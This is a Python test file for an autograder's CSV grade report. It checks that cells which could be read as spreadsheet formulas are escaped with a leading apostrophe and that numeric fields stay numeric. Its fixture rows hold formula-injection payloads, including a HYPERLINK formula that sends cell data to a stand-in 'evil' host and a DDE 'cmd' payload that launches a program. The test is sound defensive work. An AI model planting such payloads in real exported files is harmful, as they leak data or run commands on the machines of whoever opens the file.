"""autograde.report: the grade table a spreadsheet opens holds no formula a student wrote."""
import csv

from autograde.report import write_csv


def test_text_cells_cannot_be_formulas_and_numbers_stay_numbers(tmp_path):
    rows = [{"student_id": "alice", "assignment": "00_intro", "score": -1.5, "max_score": 6, "raw_score": 0,
             "late_penalty": 0, "00_intro/a": 2.0, "status": "wrong_owner",
             "message": '=HYPERLINK("http://evil/?"&A1,"click")'},
            *({"student_id": f"s{i}", "assignment": "00_intro", "score": 0, "max_score": 6, "raw_score": 0,
               "late_penalty": 0, "status": "ok", "message": m}
              for i, m in enumerate(["+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "fine = ok"]))]
    path = tmp_path / "bpcourse-grades.csv"
    write_csv(path, rows)
    got = list(csv.DictReader(path.open(encoding="utf-8", newline="")))
    assert got[0]["message"] == "'" + rows[0]["message"]
    assert [r["message"] for r in got[1:]] == ["'+1+cmd|' /C calc'!A0", "'-2+3", "'@SUM(A1)", "'\t=1", "'\r=1",
                                              "fine = ok"]
    assert got[0]["score"] == "-1.5" and got[0]["00_intro/a"] == "2.0" and got[0]["max_score"] == "6"
